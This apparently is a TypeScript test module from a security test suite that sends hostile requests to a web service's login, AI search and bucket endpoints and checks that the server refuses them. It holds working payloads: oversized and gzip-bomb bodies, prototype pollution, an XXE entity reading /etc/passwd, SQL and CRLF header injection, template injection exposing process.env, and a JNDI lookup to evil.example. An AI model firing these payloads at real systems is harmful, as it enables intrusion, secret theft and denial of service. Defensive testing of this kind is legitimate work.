// Bodies that are larger, deeper, wider or odder than any call needs.
import { gzipSync } from 'node:zlib';
import { requestOf } from '../../../conformance/permissions/requests.ts';
import type { AttackClass, Headers, Try } from '../attack.ts';
import type { Scene } from '../scene.ts';

const OPEN = [
  '/auth/auth-login',
  '/auth/admin-login',
  '/base/contact-us',
  '/ai/search-documents',
  '/ai/knowledge/ask',
] as const;

/** Where anybody may send JSON, and where somebody who rents an app may. */
const doors = ({ thief }: Scene): readonly (readonly [string, Headers])[] => [
  ...OPEN.map((path) => [path, {}] as const),
  ['/api/v1/buckets/', thief.credential],
  [`/api/v1/buckets/${thief.bucket}/releases/`, thief.credential],
  ['/api/organizations', thief.session],
];

export const oversized: AttackClass = {
  name: 'bodies that are too large',
  answers: 'refused',
  tries: (scene) =>
    doors(scene).flatMap(([path, headers]): Try[] => {
      const own = { Host: scene.hosts.console, ...headers, 'Content-Type': 'application/json' };
      const head = (more: Headers): string =>
        `POST ${path} HTTP/1.1\n${Object.entries({ ...own, ...more })
          .map(([name, value]) => `${name}: ${value}\n`)
          .join('')}\n`;
      const chunk = `10000\n${'x'.repeat(0x10000)}\n`;
      return [
        { says: `${path} announces 99 GB`, send: { parts: [head({ 'Content-Length': '99999999999' })] } },
        { says: `${path} sends 5 MB`, send: { path, headers, body: `{"a":"${'x'.repeat(5_000_000)}"}` } },
        {
          says: `${path} sends chunks`,
          send: { parts: [head({ 'Transfer-Encoding': 'chunked' }), ...Array.from({ length: 80 }, () => chunk)] },
        },
        {
          says: `${path} sends 20 MB packed`,
          send: {
            path,
            headers: { ...headers, 'Content-Encoding': 'gzip' },
            body: gzipSync(Buffer.alloc(20_000_000, 'x')),
          },
        },
      ];
    }),
};

export const nested: AttackClass = {
  name: 'JSON deeper than anybody writes',
  answers: 'refused',
  tries: (scene) =>
    doors(scene).flatMap(([path, headers]) =>
      [3000, 30_000].flatMap((depth): Try[] => [
        {
          says: `${path} lists ${depth} deep`,
          send: { path, headers, body: `${'['.repeat(depth)}${']'.repeat(depth)}` },
        },
        {
          says: `${path} lists ${depth} deep in a field`,
          send: { path, headers, body: `{"metadata":${'['.repeat(depth)}${']'.repeat(depth)},"name":"n"}` },
        },
        { says: `${path} ${depth} deep without an end`, send: { path, headers, body: '{"a":'.repeat(depth / 3) } },
      ]),
    ),
};

export const keys: AttackClass = {
  name: 'keys by the thousand, twice, and of prototypes',
  answers: 'harmless',
  tries: (scene) =>
    doors(scene).flatMap(([path, headers]): Try[] => {
      const flood = `{${Array.from({ length: 400_000 }, (_, n) => `"${n}":1`).join()}}`;
      const some = `{${Array.from({ length: 5000 }, (_, n) => `"${n}":1`).join()}}`;
      const bodies = [
        flood,
        some,
        '{"__proto__":{"isAdmin":true,"role":"owner"}}',
        '{"constructor":{"prototype":{"isAdmin":true}}}',
        '{"name":"a","name":"b","Username":"a","Username":"operator"}',
        '{"toString":1,"valueOf":2,"hasOwnProperty":3,"then":4}',
        '{"":1,"\\u0000":2,"\\ud800":3}',
      ];
      return bodies.map((body) => ({ says: `${path} ${body.slice(0, 50)}`, send: { path, headers, body } }));
    }),
};

export const notJson: AttackClass = {
  name: 'bodies that are no JSON, and types that are others',
  answers: 'refused',
  tries: (scene) =>
    doors(scene).flatMap(([path, headers]) =>
      [
        ...[
          '',
          'null',
          '1',
          '"a"',
          '[]',
          'true',
          '{',
          '{"a":}',
          "{'a':1}",
          '{"a":1}{"b":2}',
          'NaN',
          '\u0000',
          '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        ],
        ...[Buffer.from([0xff, 0xfe, 0x7b, 0, 0x7d, 0]), Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31])],
      ].map(
        (body): Try => ({
          says: `${path} ${JSON.stringify(body).slice(0, 50)}`,
          send: { method: 'POST', path, headers, body },
          answers: path.endsWith('/releases/') && ['', 'null', '[]'].includes(String(body)) ? 'harmless' : 'refused',
        }),
      ),
    ),
};

/** Texts that some layer below reads as more than text. */
const TEXTS = [
  'a\u0000b',
  '\ud800',
  'a\r\nSet-Cookie: planted=1',
  "'; DROP TABLE users; --",
  '\u202e\u2066\u001b]52;c;AAAA\u0007',
  `${'a'.repeat(40_000)}`,
  '$\u007bjndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process.env")()}}',
] as const;

export const texts: AttackClass = {
  name: 'hostile texts in every field of every change',
  answers: 'harmless',
  tries({ served, thief }) {
    const writes = served.filter(({ operation, id }) => operation.method !== 'GET' && !SIGNS_OUT.has(id));
    return writes.flatMap((call, index) => {
      const { method, path, body } = requestOf(call, thief.things);
      return [0, 3].flatMap((turn): Try[] => {
        const text = TEXTS[(index + turn) % TEXTS.length] ?? '';
        const spoilt = spoil(body, text);
        return spoilt === undefined
          ? []
          : [
              {
                says: `${call.id} ${JSON.stringify(text.slice(0, 20))}`,
                send: { method, path, headers: thief.session, body: spoilt },
                never: /^set-cookie: planted/im,
              },
            ];
      });
    });
  },
};

/** They would end the session that the others are tried with. */
const SIGNS_OUT: ReadonlySet<string> = new Set(['session.logout', 'app.secrets.regenerate', 'user.clearLoginState']);

/** The body with that text in each of its texts; undefined where it has none. */
function spoil(body: unknown, text: string): unknown {
  const replaced = JSON.stringify(body)?.replace(/:"(?:[^"\\]|\\.)*"/g, () => `:${JSON.stringify(text)}`);
  return replaced === undefined || replaced === JSON.stringify(body) ? undefined : replaced;
}
